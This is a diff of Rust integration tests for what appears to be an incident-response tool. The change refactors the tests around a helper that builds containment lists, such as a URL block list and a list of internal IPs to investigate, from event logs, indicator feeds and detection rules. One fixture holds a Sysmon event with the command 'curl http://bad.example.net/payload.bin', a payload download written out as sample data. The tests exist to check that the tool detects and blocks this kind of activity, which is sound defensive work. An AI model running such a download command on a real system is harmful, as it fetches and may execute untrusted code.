@@ -238,35 +238,52 @@ fn insufficient_evidence_names_what_was_left_out_rather_than_deny_it() {
     assert!(text.contains(": no ATT&CK technique"), "{text}");
 }
 
-/// An indicator URL found in a command line (no field named "url") is put
-/// on the URL block list with the indicator as its reason; it was in no
-/// list at all, though the host was isolated for it.
-#[test]
-fn a_url_an_indicator_names_is_block_listed_wherever_the_event_held_it() {
+/// Assess one event file (`ev`) with one input file (`input`, given with
+/// `flag`, e.g. `--ioc` or `--rules`) and `extra` arguments; the text of the
+/// containment list `list`.
+fn containment_list(
+    ev: &str,
+    flag: &str,
+    input: (&str, &str),
+    extra: &[&str],
+    list: &str,
+) -> String {
     let dir = tempfile::tempdir().unwrap();
-    let ev = dir.path().join("ev.jsonl");
-    std::fs::write(
-        &ev,
-        r#"{"@timestamp":"2024-01-01T10:00:00Z","Computer":"ws01","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\Users\\a\\evil.exe","CommandLine":"curl http://bad.example.net/payload.bin"}"#,
-    )
-    .unwrap();
-    let feed = dir.path().join("feed.txt");
-    std::fs::write(&feed, "http://bad.example.net/payload.bin\n").unwrap();
+    let ev_path = dir.path().join("ev.jsonl");
+    std::fs::write(&ev_path, ev).unwrap();
+    let input_path = dir.path().join(input.0);
+    std::fs::write(&input_path, input.1).unwrap();
     let out = dir.path().join("out");
-    let status = Command::new(env!("CARGO_BIN_EXE_kahu"))
-        .args(["-q", "assess", "--no-case", "--ioc"])
-        .arg(&feed)
-        .arg(&ev)
+    let run = Command::new(env!("CARGO_BIN_EXE_kahu"))
+        .args(["-q", "assess", "--no-case"])
+        .args(extra)
+        .arg(flag)
+        .arg(&input_path)
+        .arg(&ev_path)
         .arg("--out")
         .arg(&out)
         .output()
         .unwrap();
     assert!(
-        status.status.success(),
+        run.status.success(),
         "{}",
-        String::from_utf8_lossy(&status.stderr)
+        String::from_utf8_lossy(&run.stderr)
     );
-    let list = std::fs::read_to_string(out.join("containment/blocklist-urls.csv")).unwrap();
+    std::fs::read_to_string(out.join("containment").join(list)).unwrap()
+}
+
+/// An indicator URL found in a command line (no field named "url") is put
+/// on the URL block list with the indicator as its reason; it was in no
+/// list at all, though the host was isolated for it.
+#[test]
+fn a_url_an_indicator_names_is_block_listed_wherever_the_event_held_it() {
+    let list = containment_list(
+        r#"{"@timestamp":"2024-01-01T10:00:00Z","Computer":"ws01","Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\Users\\a\\evil.exe","CommandLine":"curl http://bad.example.net/payload.bin"}"#,
+        "--ioc",
+        ("feed.txt", "http://bad.example.net/payload.bin\n"),
+        &[],
+        "blocklist-urls.csv",
+    );
     let row = list
         .lines()
         .find(|l| l.starts_with("http://bad.example.net/payload.bin,"))
@@ -280,35 +297,16 @@ fn a_url_an_indicator_names_is_block_listed_wherever_the_event_held_it() {
 /// contacted on port 58172.
 #[test]
 fn an_accepted_connection_names_the_client_that_connected_in() {
-    let dir = tempfile::tempdir().unwrap();
-    let ev = dir.path().join("ev.jsonl");
-    std::fs::write(
-        &ev,
+    let list = containment_list(
         r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":3,"EventRecordID":17424,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"IEWIN7","TimeCreated":{"#attributes":{"SystemTime":"2019-05-24T01:33:53Z"}}},"EventData":{"Image":"C:\\Windows\\explorer.exe","Protocol":"tcp","Initiated":"false","SourceIp":"10.0.2.16","SourcePort":"49158","DestinationIp":"10.0.2.17","DestinationPort":"58172"}}}"##,
-    )
-    .unwrap();
-    let rule = dir.path().join("r.yml");
-    std::fs::write(
-        &rule,
-        "title: Explorer Accepted A Network Connection\nid: 00000000-0000-4000-8000-000000000072\nstatus: test\nlevel: high\nlogsource:\n    product: windows\n    category: network_connection\ndetection:\n    selection:\n        Image|endswith: '\\explorer.exe'\n        Initiated: 'false'\n    condition: selection\n",
-    )
-    .unwrap();
-    let out = dir.path().join("out");
-    let run = Command::new(env!("CARGO_BIN_EXE_kahu"))
-        .args(["-q", "assess", "--no-case", "--no-bundled-rules", "--rules"])
-        .arg(&rule)
-        .arg(&ev)
-        .arg("--out")
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert!(
-        run.status.success(),
-        "{}",
-        String::from_utf8_lossy(&run.stderr)
+        "--rules",
+        (
+            "r.yml",
+            "title: Explorer Accepted A Network Connection\nid: 00000000-0000-4000-8000-000000000072\nstatus: test\nlevel: high\nlogsource:\n    product: windows\n    category: network_connection\ndetection:\n    selection:\n        Image|endswith: '\\explorer.exe'\n        Initiated: 'false'\n    condition: selection\n",
+        ),
+        &["--no-bundled-rules"],
+        "internal-ips-to-investigate.csv",
     );
-    let list =
-        std::fs::read_to_string(out.join("containment/internal-ips-to-investigate.csv")).unwrap();
     let row = list
         .lines()
         .find(|l| l.starts_with("10.0.2.17,"))
